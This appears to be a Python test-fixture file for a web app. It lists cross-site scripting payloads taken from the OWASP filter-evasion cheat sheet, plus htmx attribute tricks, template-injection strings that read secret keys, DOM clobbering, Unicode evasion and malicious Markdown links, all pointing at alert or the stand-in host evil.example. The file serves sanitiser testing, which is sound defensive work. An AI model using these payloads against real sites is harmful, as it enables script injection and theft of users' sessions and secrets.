"""What people have typed into fields so that others' browsers would run it.

The kinds are those of the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
and what this product would give in addition: htmx, templates, Markdown.

Whatever would run calls ``alert``; whatever would load, loads from ``evil.example``;
whatever would become an element or an attribute carries ``owned`` in its name, its id
or its class, where no honest element has it.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/owned.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/owned src=//evil.example/x></script>",
    "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) owned="',
    "' autofocus onfocus=alert(1) owned='",
    '" style="animation-name:owned" onanimationstart="alert(1)',
    "`onmouseover=alert(1)`",
)
ELEMENTS = (
    "<img src=//evil.example/a.png onerror=alert(1) class=owned>",
    '<IMG """><script>alert(1)</script>">',
    "<img src=x:x onerror&#61;alert(1)>",
    "<image/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1) class=owned>",
    "<video src=//evil.example/a onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1) name=owned>",
    "<marquee onstart=alert(1) class=owned>",
    "<iframe src=javascript:alert(1) class=owned></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>" id=owned></iframe>',
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/owned.swf>",
    "<link rel=stylesheet href=//evil.example/owned.css>",
    "<style>@import'//evil.example/owned.css';</style>",
    '<div style="background:url(//evil.example/owned)" class=owned>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<base href=//evil.example/>",
    "<form action=//evil.example/ id=owned><button>x</button></form>",
    "<svg onload=alert(1) class=owned>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)" class=owned><text>x</text></a></svg>',
    "<svg><use href=//evil.example/owned.svg#x /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)" class=owned>x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template id=owned><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<xss-owned onfocus=alert(1) tabindex=1 autofocus>",
)
#: htmx 4 acts on attributes wherever they come from.
HTMX = (
    "<a hx-get=/logout/ hx-trigger=load class=owned>x</a>",
    '<a hx-post="/profile/" hx-trigger="load" class=owned>x</a>',
    '<a data-hx-post="/logout/" data-hx-trigger="load" class=owned>x</a>',
    '<div hx-on:load="alert(1)" class=owned></div>',
    '<div hx-on::after:init="alert(1)" class=owned></div>',
    '<div hx-vals="js:{x:alert(1)}" hx-get=/ hx-trigger=load class=owned></div>',
    '<div hx-ws:connect="//evil.example/" class=owned></div>',
    '<div hx-ws="connect:/live/" class=owned></div>',
    '<div data-hx-ws:connect="/live/" class=owned></div>',
    '<div hx-sse:connect="//evil.example/" class=owned></div>',
    '<div hx-boost:inherited="true" hx-target:inherited="body" class=owned></div>',
    '<hx-partial hx-target="body" hx-swap="innerHTML"><b class=owned>x</b></hx-partial>',
    "</hx-partial><hx-partial hx-target=body hx-swap=innerHTML><b class=owned></b>",
    "</template><template hx type=partial hx-target=body><b class=owned></b></template>",
    '</live-region><live-region id="toasts"><b class=owned>x</b></live-region>',
    '<div id="toasts" hx-swap-oob="outerHTML" class=owned>x</div>',
    '<b hx-swap-oob="innerHTML:body" class=owned>x</b>',
    '<input form="live" name="region" value="toasts:0" class=owned>',
    '{"channel":"ui","payload":"<b class=owned>x</b>"}',
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}{{ 7|add:7 }}",
    "{% debug %}{% load static %}{% include 'base.html' %}",
    "{% csrf_token %}{{ request.session.items }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> [[${7*7}]] {{constructor.constructor('alert(1)')()}}",
    "%(title)s %s {0.__class__} {who}",
)
#: Of the live regions and the page's own names, what a document would be glad to have.
CLOBBERING = tuple(
    f"<a id={name} name={name} class=owned>x</a>"
    for name in ("live", "toasts", "pen", "main", "editor", "id_text", "htmx", "body", "location")
)
UNICODE = (
    "\u202ereversed\u202c \u2066isolated\u2069 \u200bzero\u200dwidth\ufeff",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u017fcript <\u017fcript>alert(1)</\u017fcript>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "Z\u0351\u0351\u0351\u0351\u0351algo",
)
MARKDOWN = (
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt:alert(1))",
    "[c](java&#10;script:alert(1))",
    "[d](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[e](<javascript:alert(1)>)",
    "[f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[g](vbscript:msgbox(1))",
    "[h](\\x01javascript:alert(1))",
    '[i](https://example.org "onmouseover=alert(1) owned")',
    '[j](https://example.org"onmouseover="alert(1))',
    "[k]\n\n[k]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![l](//evil.example/owned.png)",
    "![m](https://evil.example/owned.png)",
    "![n](javascript:alert(1))",
    "![o](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![p](/logout/)",
    '![q](x" onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](/covers/../logout/)",
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    '``` " onload=alert(1) class=owned\nx\n```',
    "# toasts\n\n# pen\n\n# live\n\n# main {#owned .owned onclick=alert(1)}",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <b class=owned> |",
    "[x]: <b> 'owned'\n\n[^owned]: x\n\n<!-- owned --><![CDATA[ owned ]]><?owned ?>",
)
LINES = (*SCRIPTS, *ELEMENTS, *HTMX, *TEMPLATES, *CLOBBERING, *UNICODE)
#: What stands at the end of everything, so that one sees it has come.
END = "the-end"
#: All of it as one document: each on its own, and within a heading, a list and a cell.
TEXT = "\n\n".join(
    [
        *LINES,
        *MARKDOWN,
        *(f"- {line}\n\n## {line}" for line in LINES if "\n" not in line),
        f"## {LINES[0]} {END}",
        END,
    ]
)


def short(length: int) -> list[str]:
    """The lines for a field that holds so many characters, as many in each as fit."""
    filled = [""]
    for line in LINES:
        room = length - len(filled[-1]) - len(END) - 2
        if len(line) > room:
            filled.append("")
        if len(line) <= length - len(END) - 2:
            filled[-1] += line + " "
    return [f"{line}{END}" for line in filled if line]
